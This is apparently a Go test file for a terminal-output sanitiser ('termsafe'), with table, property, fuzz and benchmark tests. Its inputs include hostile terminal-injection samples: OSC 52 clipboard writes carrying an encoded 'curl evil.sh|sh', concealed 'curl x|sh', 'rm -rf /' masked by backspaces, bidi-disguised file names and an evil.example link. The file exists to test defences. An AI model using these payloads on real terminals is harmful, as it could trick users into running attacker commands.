package termsafe

import (
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
	"unsafe"
)

func TestEscape(t *testing.T) {
	tests := []struct {
		name string
		in   string
		max  int
		want string
	}{
		// Terminal escape sequences an attacker can put in argv or a file name.
		{"OSC 0 title (BEL)", "\x1b]0;pwned\x07", 0, `\x1b]0;pwned\x07`},
		{"OSC 2 title (ST)", "\x1b]2;root@prod\x1b\\", 0, `\x1b]2;root@prod\x1b\`},
		{"OSC 8 link", "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\", 0,
			`\x1b]8;;https://evil.example/\x1b\click me\x1b]8;;\x1b\`},
		{"OSC 52 clipboard", "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07", 0, `\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07`},
		{"CSI 2J clear screen", "\x1b[2J\x1b[3J", 0, `\x1b[2J\x1b[3J`},
		{"CSI cursor moves", "\x1b[H\x1b[10;20H\x1b[3A\x1b[2K", 0, `\x1b[H\x1b[10;20H\x1b[3A\x1b[2K`},
		{"SGR 8 conceal", "ls\x1b[8m; curl x|sh\x1b[0m", 0, `ls\x1b[8m; curl x|sh\x1b[0m`},
		{"DCS", "\x1bP+q544e\x1b\\", 0, `\x1bP+q544e\x1b\`},
		{"APC kitty graphics", "\x1b_Gf=100,a=T;AAAA\x1b\\", 0, `\x1b_Gf=100,a=T;AAAA\x1b\`},
		{"SOS and PM", "\x1bXsos\x1b\\\x1b^pm\x1b\\", 0, `\x1bXsos\x1b\\x1b^pm\x1b\`},

		// Controls that rewrite what is already on the line.
		{"carriage return", "benign\rEVIL!!", 0, `benign\rEVIL!!`},
		{"backspaces", "rm -rf /\b\b\b\b\b\b\bls", 0, `rm -rf /\x08\x08\x08\x08\x08\x08\x08ls`},
		{"newline and tab", "a\nb\tc", 0, `a\nb\tc`},
		{"NUL BEL VT FF", "\x00\x07\x0b\x0c", 0, `\x00\x07\x0b\x0c`},
		{"DEL", "a\x7fb", 0, `a\x7fb`},
		{"unit separator", "\x1f", 0, `\x1f`},

		// C1 controls: encoded as UTF-8, and as raw (invalid UTF-8) bytes.
		{"C1 CSI U+009B", "\u009b2J", 0, `\u009b2J`},
		{"C1 OSC U+009D and ST U+009C", "\u009d0;t\u009c", 0, `\u009d0;t\u009c`},
		{"C1 U+0080 and U+009F", "\u0080\u009f", 0, `\u0080\u009f`},
		{"raw 0x9b byte", "\x9b2J", 0, `\x9b2J`},
		{"raw 0x9d ... 0x9c bytes", "\x9d0;t\x9c", 0, `\x9d0;t\x9c`},

		// Format characters that reorder or hide text.
		{"bidi RLO U+202E", "invoice\u202efdp.sh", 0, `invoice\u202efdp.sh`},
		{"bidi embeddings U+202A-U+202D", "\u202a\u202b\u202c\u202d", 0, `\u202a\u202b\u202c\u202d`},
		{"bidi isolates U+2066-U+2069", "\u2066\u2067\u2068\u2069", 0, `\u2066\u2067\u2068\u2069`},
		{"zero-width U+200B-U+200F", "r\u200bm\u200c\u200d\u200e\u200f", 0, `r\u200bm\u200c\u200d\u200e\u200f`},
		{"BOM U+FEFF", "\ufeffbash", 0, `\ufeffbash`},
		{"Arabic letter mark U+061C", "a\u061cb", 0, `a\u061cb`},
		{"soft hyphen U+00AD", "ba\u00adsh", 0, `ba\u00adsh`},
		{"line and paragraph separators", "a\u2028b\u2029c", 0, `a\u2028b\u2029c`},
		{"tag characters above U+FFFF", "x\U000e0041\U000e007f", 0, `x\U000e0041\U000e007f`},

		// Invalid UTF-8: every bad byte, and nothing else, escaped.
		{"invalid bytes", "\xff\xfe", 0, `\xff\xfe`},
		{"truncated sequence", "ok\xe2\x80", 0, `ok\xe2\x80`},
		{"overlong slash", "/etc\xc0\xafpasswd", 0, `/etc\xc0\xafpasswd`},
		{"encoded surrogate", "\xed\xa0\x80", 0, `\xed\xa0\x80`},
		{"valid U+FFFD kept", "a\uFFFDb", 0, "a\uFFFDb"},

		// Printable text passes through.
		{"empty", "", 0, ""},
		{"ascii", "/usr/bin/chattr +i /etc/passwd", 0, "/usr/bin/chattr +i /etc/passwd"},
		{"backslash kept", `C:\x1b`, 0, `C:\x1b`},
		{"CJK", "漢字テスト 한국어", 0, "漢字テスト 한국어"},
		{"emoji with modifier and variation selector", "🔥👍🏽❤️🇫🇷", 0, "🔥👍🏽❤️🇫🇷"},
		{"combining marks", "e\u0301 क्षि", 0, "e\u0301 क्षि"},
		{"latin-1 and NBSP", "café\u00a0ñ", 0, "café\u00a0ñ"},

		// The length cap counts output runes, the ellipsis included.
		{"fits exactly", "abc", 3, "abc"},
		{"cut", "abcd", 3, "ab…"},
		{"cap of one", "abcd", 1, "…"},
		{"negative cap is no cap", "abcd", -1, "abcd"},
		{"very long field", strings.Repeat("A", 100000), 20, strings.Repeat("A", 19) + "…"},
		{"wide runes count one each", "漢字テスト", 3, "漢字…"},
		{"escape dropped whole, not split", "abcd\x1b[2J", 6, "abcd…"},
		{"escape fits, cut after it", "ab\x1b[2J", 8, `ab\x1b[…`},
		{"escapes count in the cap", "\x1b\x1b", 8, `\x1b\x1b`},
		{"escapes over the cap", "\x1b\x1b\x1b", 9, `\x1b\x1b…`},
		{"long escaped field", strings.Repeat("\x1b]0;x\x07", 10000), 40,
			strings.Repeat(`\x1b]0;x\x07`, 3) + "…"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Escape(tt.in, tt.max)
			if got != tt.want {
				t.Errorf("Escape(%q, %d) = %q, want %q", short(tt.in), tt.max, short(got), short(tt.want))
			}
			checkSafe(t, tt.in, tt.max, got)
			prefix := []byte("prefix:")
			if app := AppendEscape(prefix, tt.in, tt.max); string(app) != "prefix:"+tt.want {
				t.Errorf("AppendEscape = %q, want %q", short(string(app)), short("prefix:"+tt.want))
			}
		})
	}
}

// short keeps failure messages readable for the very long inputs.
func short(s string) string {
	if len(s) > 200 {
		return s[:200] + "[...]"
	}
	return s
}

// checkSafe is the property every output must have.
func checkSafe(t *testing.T, in string, max int, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Fatalf("Escape(%q, %d) = %q: invalid UTF-8", short(in), max, short(out))
	}
	for i := 0; i < len(out); i++ {
		if out[i] < 0x20 || out[i] == 0x7f {
			t.Fatalf("Escape(%q, %d) = %q: control byte %#x at %d", short(in), max, short(out), out[i], i)
		}
	}
	for _, r := range out {
		if (r >= 0x80 && r <= 0x9f) || unicode.Is(unicode.Cf, r) || r == 0x2028 || r == 0x2029 {
			t.Fatalf("Escape(%q, %d) = %q: unsafe rune %U", short(in), max, short(out), r)
		}
	}
	if n := utf8.RuneCountInString(out); max > 0 && n > max {
		t.Fatalf("Escape(%q, %d) = %q: %d runes, over the cap", short(in), max, short(out), n)
	}
}

// unescape undoes Escape for input without backslashes, to prove nothing is
// lost or invented when the cap does not cut.
func unescape(s string) (string, error) {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] != '\\' {
			b.WriteByte(s[i])
			continue
		}
		if i+1 >= len(s) {
			return "", fmt.Errorf("trailing backslash")
		}
		var digits int
		switch s[i+1] {
		case 't', 'n', 'r':
			b.WriteByte(map[byte]byte{'t': '\t', 'n': '\n', 'r': '\r'}[s[i+1]])
			i++
			continue
		case 'x':
			digits = 2
		case 'u':
			digits = 4
		case 'U':
			digits = 8
		default:
			return "", fmt.Errorf("unknown escape %q", s[i:i+2])
		}
		if i+2+digits > len(s) {
			return "", fmt.Errorf("short escape at %d", i)
		}
		v, err := strconv.ParseUint(s[i+2:i+2+digits], 16, 32)
		if err != nil {
			return "", err
		}
		if digits == 2 {
			b.WriteByte(byte(v))
		} else {
			b.WriteRune(rune(v))
		}
		i += 1 + digits
	}
	return b.String(), nil
}

// pieces are the building blocks of the random inputs.
var pieces = []string{
	"a", "Z", " ", "/", "-", "é", "漢", "🔥", "\u0301", "\x1b", "[", "]", "\x07", "\r", "\n", "\t", "\b", "\x00",
	"\x7f", "\u009b", "\x9b", "\u202e", "\u2066", "\u200b", "\u200d", "\ufeff", "\u2028", "\U000e0041",
	"\xff", "\xe2\x80", "\xc0", "\xed\xa0\x80", "\xf0\x9f", "…", "\uFFFD",
}

func TestEscapeProperties(t *testing.T) {
	rng := rand.New(rand.NewPCG(1, 2))
	for iter := 0; iter < 20000; iter++ {
		var b strings.Builder
		for n := rng.IntN(30); n > 0; n-- {
			if rng.IntN(4) == 0 {
				b.WriteByte(byte(rng.IntN(256)))
			} else {
				b.WriteString(pieces[rng.IntN(len(pieces))])
			}
		}
		in := b.String()
		maxRunes := rng.IntN(40) - 5
		out := Escape(in, maxRunes)
		checkSafe(t, in, maxRunes, out)
		checkLossless(t, in, maxRunes, out)
	}
}

// checkLossless: uncut output of backslash-free input decodes back to the
// input; cut output is a prefix of the uncut one plus the ellipsis.
func checkLossless(t *testing.T, in string, max int, out string) {
	t.Helper()
	full := Escape(in, 0)
	if out != full {
		prefix, ok := strings.CutSuffix(out, Ellipsis)
		if !ok || !strings.HasPrefix(full, prefix) || max <= 0 {
			t.Fatalf("Escape(%q, %d) = %q is not a cut of %q", short(in), max, short(out), short(full))
		}
		// The cut drops only what no longer fits: one more unit would overflow.
		if utf8.RuneCountInString(out) < max-9 {
			t.Fatalf("Escape(%q, %d) = %q cut more than one escape short of the cap", short(in), max, short(out))
		}
	}
	if strings.Contains(in, `\`) {
		return
	}
	back, err := unescape(full)
	if err != nil || back != in {
		t.Fatalf("unescape(Escape(%q)) = %q, %v", short(in), short(back), err)
	}
}

func FuzzEscape(f *testing.F) {
	for _, s := range []string{"", "plain", "\x1b]0;pwned\x07", "\x1b]52;c;QUJD\x07", "\u009b2J", "\x9b2J",
		"a\u202eb", "\xff\xfe\xed\xa0\x80", "漢字🔥", "\ufeff\u2028", strings.Repeat("x", 300)} {
		f.Add(s, 0)
		f.Add(s, 5)
	}
	f.Fuzz(func(t *testing.T, in string, max int) {
		max %= 200
		out := Escape(in, max)
		checkSafe(t, in, max, out)
		checkLossless(t, in, max, out)
		if string(AppendEscape(nil, in, max)) != out {
			t.Fatalf("AppendEscape and Escape differ on %q", in)
		}
	})
}

func TestEscapeCleanReturnsInput(t *testing.T) {
	for _, s := range []string{"/usr/bin/bash -c 'id'", "漢字テスト 🔥", strings.Repeat("x", 4096)} {
		out := Escape(s, 0)
		if unsafe.StringData(out) != unsafe.StringData(s) {
			t.Errorf("Escape(%q) copied clean input", s)
		}
		if n := testing.AllocsPerRun(100, func() { _ = Escape(s, 5000) }); n != 0 {
			t.Errorf("Escape of clean input: %v allocs, want 0", n)
		}
	}
	buf := make([]byte, 0, 256)
	if n := testing.AllocsPerRun(100, func() { buf = AppendEscape(buf[:0], "\x1b]0;pwned\x07 \u202e", 40) }); n != 0 {
		t.Errorf("AppendEscape into a large enough buffer: %v allocs, want 0", n)
	}
}

var sink string

func BenchmarkEscape(b *testing.B) {
	cases := []struct{ name, in string }{
		{"clean-ascii", "/usr/bin/python3 -m http.server 8080 --bind 0.0.0.0 --directory /srv/www"},
		{"clean-unicode", "/home/ユーザー/プロジェクト/ビルド.sh --флаг значение 🔥"},
		{"hostile", "\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b[2J\u202eexe.txt\x9b"},
	}
	for _, c := range cases {
		b.Run(c.name, func(b *testing.B) {
			b.ReportAllocs()
			b.SetBytes(int64(len(c.in)))
			for b.Loop() {
				sink = Escape(c.in, 256)
			}
		})
	}
	b.Run("hostile-append", func(b *testing.B) {
		in := cases[2].in
		buf := make([]byte, 0, 512)
		b.ReportAllocs()
		b.SetBytes(int64(len(in)))
		for b.Loop() {
			buf = AppendEscape(buf[:0], in, 256)
		}
	})
}

// TestMustEscapeMatchesUnicode checks the fast range checks of mustEscape
// against the definition, for every code point.
func TestMustEscapeMatchesUnicode(t *testing.T) {
	for r := rune(0); r <= unicode.MaxRune; r++ {
		want := r < 0x20 || (r >= 0x7f && r <= 0x9f) || r == 0x2028 || r == 0x2029 || unicode.Is(unicode.Cf, r)
		if got := mustEscape(r); got != want {
			t.Errorf("mustEscape(%U) = %v, want %v", r, got, want)
		}
	}
}
